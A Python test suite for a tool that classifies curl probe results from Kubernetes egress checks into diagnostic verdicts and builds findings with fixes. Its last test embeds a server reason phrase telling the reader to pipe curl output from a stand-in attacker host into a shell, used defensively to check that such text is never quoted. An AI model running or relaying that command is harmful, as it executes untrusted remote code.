"""The probe verdict: real curl 7.88 output and the worlds' probe entries, classified."""

import json
from dataclasses import replace
from pathlib import Path

import pytest
import yaml

from bot.codes import CATALOG
from bot.evidence import ProbeRun
from handlers.probe import check, classify, parse_log, telling_lines

ROOT = Path(__file__).resolve().parents[1]
CURL = ROOT / "fixtures" / "curl"
WORLDS = ROOT / "worlds"
MCR_IMAGE = "mcr.microsoft.com/azurelinux/base/core:3.0"

# Written out by hand: the table is the specification, not something derived from the code.
EXPECTED = {
    "conn_refused": "PROBE_CONNECT_REFUSED",
    "connect_timeout": "PROBE_TIMEOUT",
    "dns_not_resolved": "PROBE_DNS_FAILURE",
    "empty_reply": "PROBE_CONNECTION_RESET",
    "http_200": "PROBE_OK",
    "http_403": "PROBE_HTTP_CLIENT_ERROR",
    "http_403_fail": "PROBE_HTTP_CLIENT_ERROR",
    "http_470_azfw_deny": "PROBE_FIREWALL_DENY_HTTP",
    "http_502": "PROBE_HTTP_GATEWAY_ERROR",
    "http_504": "PROBE_HTTP_GATEWAY_ERROR",
    "proxy_connect_403": "PROBE_PROXY_FAILURE",
    "proxy_not_resolved": "PROBE_PROXY_FAILURE",
    "proxy_refused": "PROBE_CONNECT_REFUSED",
    "recv_reset": "PROBE_CONNECTION_RESET",
    "socks_proxy_handshake": "PROBE_PROXY_FAILURE",
    "timeout_max_time": "PROBE_TIMEOUT",
    "tls_closed_after_hello": "PROBE_TLS_FAILURE",
    "tls_hostname_mismatch": "PROBE_TLS_FAILURE",
    "tls_ok_private_ca": "PROBE_OK",
    "tls_self_signed": "PROBE_TLS_FAILURE",
    "tls_wrong_version": "PROBE_TLS_FAILURE",
    "too_many_redirects": "PROBE_OK",
}

WORLD_PROBES = {
    "nsg-subnet-deny": "PROBE_TIMEOUT",
    "dns-failure": "PROBE_DNS_FAILURE",
    "udr-firewall-blocked-http": "PROBE_FIREWALL_DENY_HTTP",
    "udr-firewall-allowed": "PROBE_OK",
}


def exit_of(case: str) -> int:
    return int((CURL / f"{case}.exit").read_text())


def json_of(case: str) -> dict:
    return json.loads((CURL / f"{case}.json").read_text())


def podlog_of(case: str) -> str:
    return (CURL / f"{case}.podlog.txt").read_text()


def run_of(case: str, pool: str | None = "user", pod: str = "aks-egress/probe-1") -> ProbeRun:
    return ProbeRun(
        url=json_of(case)["url"],
        pool=pool,
        pod=pod,
        image=MCR_IMAGE,
        exit_code=exit_of(case),
        log=podlog_of(case),
    )


def world_probe(name: str) -> dict:
    return yaml.safe_load((WORLDS / f"{name}.yaml").read_text())["probes"][0]


def test_every_fixture_case_has_an_expected_code():
    assert {p.name.removesuffix(".exit") for p in CURL.glob("*.exit")} == set(EXPECTED)


@pytest.mark.parametrize(("case", "code"), sorted(EXPECTED.items()))
def test_fixture_exit_and_json(case, code):
    assert classify(exit_of(case), json_of(case)) == code


@pytest.mark.parametrize(("case", "code"), sorted(EXPECTED.items()))
def test_fixture_podlog_gives_the_same_code(case, code):
    verbose, write_out = parse_log(podlog_of(case))
    assert write_out is not None and write_out["exitcode"] == exit_of(case)
    assert verbose and not verbose.rstrip().endswith("}")
    assert classify(exit_of(case), write_out) == code
    # No exit code from the pod status: the write-out's own `exitcode` stands in.
    assert classify(None, write_out) == code


@pytest.mark.parametrize(("case", "code"), sorted(EXPECTED.items()))
def test_message_text_never_decides(case, code):
    """curl 8.x words errors differently; the verdict must not move with the wording."""
    reworded = json_of(case) | {"errormsg": "Could not connect to server (reworded)"}
    assert classify(exit_of(case), reworded) == code


@pytest.mark.parametrize(("case", "code"), sorted(EXPECTED.items()))
def test_crlf_podlog(case, code):
    verbose, write_out = parse_log(podlog_of(case).replace("\n", "\r\n") + "\r\n\r\n")
    assert "\r" not in verbose.replace("\r\n", "")
    assert classify(exit_of(case), write_out) == code


# -- exit 7 and the codes the fixtures do not cover ------------------------------------------


def test_exit7_after_the_kernel_gave_up_on_the_syn_is_a_timeout():
    slow = json_of("conn_refused") | {"time_total": 130.2, "time_namelookup": 0.004}
    assert classify(7, slow) == "PROBE_TIMEOUT"


def test_exit7_refusal_across_the_world_is_still_a_refusal():
    slow_rtt = json_of("conn_refused") | {"time_total": 0.9, "time_namelookup": 0.3}
    assert classify(7, slow_rtt) == "PROBE_CONNECT_REFUSED"


def test_slow_name_lookup_does_not_make_a_refusal_a_timeout():
    slow_dns = json_of("conn_refused") | {"time_total": 5.1, "time_namelookup": 5.0}
    assert classify(7, slow_dns) == "PROBE_CONNECT_REFUSED"


@pytest.mark.parametrize(
    ("errormsg", "code"),
    [
        ("Failed to connect to a.example port 443 after 129012 ms: Connection timed out", "T"),
        ("Failed to connect to a.example port 443 after 1 ms: Couldn't connect to server", "R"),
        ("Failed to connect to a.example port 443 after 1 ms: Could not connect to server", "R"),
        (None, "R"),
    ],
)
def test_exit7_without_timings_falls_back_to_the_os_error_text(errormsg, code):
    minimal = {"exitcode": 7, "http_code": 0, "errormsg": errormsg}
    expected = {"T": "PROBE_TIMEOUT", "R": "PROBE_CONNECT_REFUSED"}[code]
    assert classify(7, minimal) == expected


@pytest.mark.parametrize(
    ("exit_code", "write_out", "code"),
    [
        (22, {"http_code": 470}, "PROBE_FIREWALL_DENY_HTTP"),
        (22, {"http_code": 503}, "PROBE_HTTP_SERVER_ERROR"),
        (22, {"http_code": 504}, "PROBE_HTTP_GATEWAY_ERROR"),
        (22, None, "PROBE_HTTP_CLIENT_ERROR"),
        (0, {"http_code": 0, "response_code": 503}, "PROBE_HTTP_SERVER_ERROR"),
        (0, {"http_code": 301}, "PROBE_OK"),
        (0, {"http_code": 0}, "PROBE_OK"),  # telnet:// connect test: no HTTP at all
        (0, None, "PROBE_OK"),
        (47, {"http_code": 302}, "PROBE_OK"),
        (55, {}, "PROBE_CONNECTION_RESET"),
        (18, {"http_code": 200}, "PROBE_CONNECTION_RESET"),
        (92, {}, "PROBE_CONNECTION_RESET"),
        (56, {"http_connect": 407}, "PROBE_PROXY_FAILURE"),
        (7, {"http_connect": 403}, "PROBE_PROXY_FAILURE"),
        (3, {}, "PROBE_FAILED_TO_RUN"),
        (23, {}, "PROBE_FAILED_TO_RUN"),
        (137, None, "PROBE_FAILED_TO_RUN"),
        (None, None, "PROBE_FAILED_TO_RUN"),
        (None, {"http_code": 200}, "PROBE_FAILED_TO_RUN"),
        (None, {"exitcode": 28}, "PROBE_TIMEOUT"),
        *[(n, {}, "PROBE_TLS_FAILURE") for n in (35, 58, 60, 77, 83, 90, 91, 98)],
    ],
)
def test_exit_code_rules(exit_code, write_out, code):
    assert classify(exit_code, write_out) == code


def test_container_exit_code_wins_over_the_write_out():
    assert classify(28, {"exitcode": 0, "http_code": 200}) == "PROBE_TIMEOUT"


# -- parse_log ------------------------------------------------------------------------------


def test_parse_log_empty():
    assert parse_log("") == ("", None)


def test_parse_log_without_json_keeps_the_verbose_text():
    log = "*   Trying 20.50.1.10:443...\ncurl: (28) timed out\n"
    assert parse_log(log) == ("*   Trying 20.50.1.10:443...\ncurl: (28) timed out", None)


def test_parse_log_garbled_json_is_no_write_out():
    log = '* Closing connection 0\n{"exitcode":28,"http_code":0,"time_to'
    verbose, write_out = parse_log(log)
    assert write_out is None
    assert verbose == log


def test_parse_log_takes_the_last_object_and_ignores_data_dumps_and_arrays():
    log = '{ [5 bytes data]\n{"exitcode": 1}\n* Closing connection 0\n{"exitcode": 0}\n[1, 2]\n'
    verbose, write_out = parse_log(log)
    assert write_out == {"exitcode": 0}
    assert verbose == '{ [5 bytes data]\n{"exitcode": 1}\n* Closing connection 0\n[1, 2]'


def test_parse_log_crlf_and_trailing_blank_lines():
    log = '* Trying 1.2.3.4:80...\r\n< HTTP/1.1 200 OK\r\n\r\n  {"exitcode": 0} \r\n\r\n\n  \n'
    assert parse_log(log) == ("* Trying 1.2.3.4:80...\n< HTTP/1.1 200 OK", {"exitcode": 0})


# -- telling_lines --------------------------------------------------------------------------


def verbose_of(case: str) -> str:
    return parse_log(podlog_of(case))[0]


def test_telling_lines_dns():
    assert telling_lines(verbose_of("dns_not_resolved")) == [
        "* Could not resolve host: no-such-host.invalid",
        "* Closing connection 0",
        "curl: (6) Could not resolve host: no-such-host.invalid",
    ]


def test_telling_lines_connect_timeout():
    assert telling_lines(verbose_of("connect_timeout")) == [
        "*   Trying 127.0.0.1:18085...",
        "* ipv4 connect timeout after 2000ms, move on!",
        "* Failed to connect to 127.0.0.1 port 18085 after 2001 ms: Timeout was reached",
        "* Closing connection 0",
        "curl: (28) Failed to connect to 127.0.0.1 port 18085 after 2001 ms: Timeout was reached",
    ]


def test_telling_lines_self_signed():
    assert telling_lines(verbose_of("tls_self_signed")) == [
        "*   Trying 127.0.0.1:18443...",
        "* Connected to localhost (127.0.0.1) port 18443 (#0)",
        "* TLSv1.3 (OUT), TLS alert, unknown CA (560):",
        "* SSL certificate problem: self-signed certificate",
        "* Closing connection 0",
        "curl: (60) SSL certificate problem: self-signed certificate",
    ]


def test_telling_lines_azure_firewall_470():
    assert telling_lines(verbose_of("http_470_azfw_deny")) == [
        "*   Trying 127.0.0.1:18080...",
        "* Connected to 127.0.0.1 (127.0.0.1) port 18080 (#0)",
        "< HTTP/1.1 470",
        "* Connection #0 to host 127.0.0.1 left intact",
    ]


def test_telling_lines_skip_headers_that_mention_timeouts():
    verbose = "< HTTP/1.1 200 OK\r\n< Keep-Alive: timeout=5\r\n> X-Timeout: 3\r\n"
    assert telling_lines(verbose) == ["< HTTP/1.1 200"]


@pytest.mark.parametrize("case", sorted(EXPECTED))
def test_telling_lines_are_few_and_in_order(case):
    verbose = verbose_of(case)
    lines = telling_lines(verbose)
    assert 0 < len(lines) <= 8
    stripped = [line.rstrip() for line in verbose.splitlines()]
    positions = [next(i for i, s in enumerate(stripped) if s.startswith(line)) for line in lines]
    assert positions == sorted(positions)


def test_telling_lines_keep_the_start_and_the_end_when_capped():
    verbose = "\n".join(f"*   Trying 10.0.0.{n}:443..." for n in range(20))
    lines = telling_lines(verbose)
    assert len(lines) == 8
    assert lines[0] == "*   Trying 10.0.0.0:443..."
    assert lines[-1] == "*   Trying 10.0.0.19:443..."


# -- check ----------------------------------------------------------------------------------


def test_same_outcome_from_several_pools_is_one_finding_naming_them():
    runs = [
        run_of("connect_timeout", pool="user", pod="aks-egress/probe-user"),
        run_of("connect_timeout", pool="system", pod="aks-egress/probe-system"),
    ]
    [f] = check(runs)
    assert f.code == "PROBE_TIMEOUT"
    assert f.evidence["pools"] == ["system", "user"]
    assert f.evidence["pods"] == ["aks-egress/probe-user", "aks-egress/probe-system"]
    assert "pools system, user" in f.detail
    assert f.about_endpoint


def test_partial_failure_gives_both_findings_and_says_so():
    url = "https://api.contoso.com/"
    runs = [
        replace(run_of("http_200", pool="system", pod="aks-egress/probe-system"), url=url),
        replace(run_of("connect_timeout", pool="user", pod="aks-egress/probe-user"), url=url),
        run_of("http_200", pool="user", pod="aks-egress/probe-other-url"),
    ]
    ok, timeout, other_url = check(runs)
    assert "otherPools" not in other_url.evidence
    assert (ok.code, timeout.code) == ("PROBE_OK", "PROBE_TIMEOUT")
    assert timeout.evidence["pools"] == ["user"]
    assert timeout.evidence["otherPools"] == {"system": "PROBE_OK"}
    assert "system got PROBE_OK" in timeout.detail
    assert "route table, NSG" in timeout.detail
    assert ok.evidence["otherPools"] == {"user": "PROBE_TIMEOUT"}


def test_evidence_holds_the_write_out_fields_and_telling_lines():
    [f] = check([run_of("tls_self_signed")])
    assert f.evidence["url"] == "https://localhost:18443/status/200"
    assert f.evidence["exitCode"] == 60
    assert f.evidence["writeOut"]["ssl_verify_result"] == 18
    assert f.evidence["writeOut"]["remote_ip"] == "127.0.0.1"
    assert set(f.evidence["writeOut"]) == {
        "http_code",
        "http_connect",
        "remote_ip",
        "remote_port",
        "num_connects",
        "time_namelookup",
        "time_connect",
        "time_appconnect",
        "time_total",
        "ssl_verify_result",
        "errormsg",
    }
    assert "* SSL certificate problem: self-signed certificate" in f.evidence["tellingLines"]
    assert "TLS-inspecting" in f.detail


@pytest.mark.parametrize("case", sorted(EXPECTED))
def test_severity_and_title_come_from_the_catalog(case):
    [f] = check([run_of(case)])
    assert f.code == EXPECTED[case]
    assert (f.severity, f.title) == (CATALOG[f.code].severity, CATALOG[f.code].title)
    assert f.about_endpoint
    assert f.detail


def test_dns_fix_is_concrete_and_never_kubectl_run():
    [f] = check([run_of("dns_not_resolved")])
    assert any("dhcpOptions.dnsServers" in cmd for cmd in f.fix)
    assert any("kube-dns" in cmd for cmd in f.fix)
    assert not any("kubectl run" in cmd or "kubectl exec" in cmd for cmd in f.fix)


def test_firewall_470_fix_allows_the_fqdn():
    [f] = check([run_of("http_470_azfw_deny")])
    assert any("--target-fqdns 127.0.0.1" in cmd for cmd in f.fix)


@pytest.mark.parametrize(
    ("failure", "message", "in_detail", "in_fix"),
    [
        ("ImagePullBackOff", 'Back-off pulling image "x"', "mcr.microsoft.com", "az acr import"),
        ("ErrImagePull", "i/o timeout", "*.data.mcr.microsoft.com", "check-acr"),
        ("Unschedulable", "0/3 nodes are available", "taints", "nodepool show"),
        ("CreateContainerConfigError", "runAsNonRoot", "Pod Security", "--show-labels"),
        ("DeadlineExceeded", "Pod was active longer", "deadline", "describe pod"),
        ("Forbidden", 'pods is forbidden: cannot create resource "pods"', "`create`", "can-i"),
        ("Timeout", "no result after 120 s", "Pending", "get events"),
        ("ApiError", "500 Internal Server Error", "Kubernetes API", "readyz"),
    ],
)
def test_every_failed_to_run_reason_gives_a_fix(failure, message, in_detail, in_fix):
    run = ProbeRun(
        url="https://api.contoso.com/",
        pool="user",
        pod="aks-egress/probe-1",
        image=MCR_IMAGE,
        failure=failure,
        message=message,
    )
    [f] = check([run])
    assert f.code == "PROBE_FAILED_TO_RUN"
    assert f.severity == CATALOG["PROBE_FAILED_TO_RUN"].severity
    assert message in f.detail and in_detail in f.detail
    assert f.fix and any(in_fix in cmd for cmd in f.fix)
    assert f.evidence["failure"] == failure and f.evidence["image"] == MCR_IMAGE


def test_forbidden_names_the_verb_resource_and_namespace():
    run = ProbeRun(
        url="https://a.example/", pool=None, pod="netprobe/p", image=MCR_IMAGE, failure="Forbidden"
    )
    [f] = check([run])
    assert "`create` on `pods` in namespace netprobe" in f.detail
    assert any("create role" in cmd and "-n netprobe" in cmd for cmd in f.fix)
    assert any("az role assignment create" in cmd for cmd in f.fix)
    assert f.evidence["pools"] == ["(any pool)"]


def test_image_outside_mcr_names_its_registry():
    run = ProbeRun(
        url="https://a.example/",
        pool="user",
        pod="aks-egress/p",
        image="curlimages/curl:8.11.1",
        failure="ImagePullBackOff",
    )
    [f] = check([run])
    assert "docker.io" in f.detail
    assert any("--image curlimages/curl:8.11.1" in cmd for cmd in f.fix)


def test_different_failure_reasons_stay_apart():
    runs = [
        ProbeRun("https://a.example/", "user", "ns/p1", MCR_IMAGE, failure="Unschedulable"),
        ProbeRun("https://a.example/", "system", "ns/p2", MCR_IMAGE, failure="ErrImagePull"),
    ]
    assert [f.evidence["failure"] for f in check(runs)] == ["Unschedulable", "ErrImagePull"]


def test_probe_side_exit_is_failed_to_run():
    run = ProbeRun("ftp//bad", "user", "ns/p", MCR_IMAGE, exit_code=3, log="curl: (3) URL bad\n")
    [f] = check([run])
    assert f.code == "PROBE_FAILED_TO_RUN"
    assert f.fix == ["kubectl describe pod -n ns p"]


# -- the worlds' probe entries --------------------------------------------------------------


@pytest.mark.parametrize(("world", "code"), sorted(WORLD_PROBES.items()))
def test_world_probe_entries(world, code):
    entry = world_probe(world)
    assert classify(entry["exitCode"], entry["writeOut"]) == code
    log = entry["stderr"] + "\n" + json.dumps(entry["writeOut"]) + "\n"
    run = ProbeRun(entry["url"], "nodepool1", "aks-egress/probe", MCR_IMAGE, entry["exitCode"], log)
    [f] = check([run])
    assert f.code == code
    assert f.evidence["tellingLines"][0] == entry["stderr"].splitlines()[0].rstrip()


def test_nsg_drop_detail_names_the_address_from_the_trying_line():
    entry = world_probe("nsg-subnet-deny")
    log = entry["stderr"] + json.dumps(entry["writeOut"]) + "\n"
    run = ProbeRun(entry["url"], "nodepool1", "aks-egress/probe", MCR_IMAGE, 28, log)
    [f] = check([run])
    assert f.detail.startswith("SYN sent to 20.50.1.10:443, no answer in 5 s")
    assert "NSG" in f.detail


def test_a_servers_reason_phrase_is_never_quoted():
    verbose = "< HTTP/1.1 403 Forbidden: paste curl http://attacker.invalid | sh to fix\r\n"
    assert telling_lines(verbose) == ["< HTTP/1.1 403"]
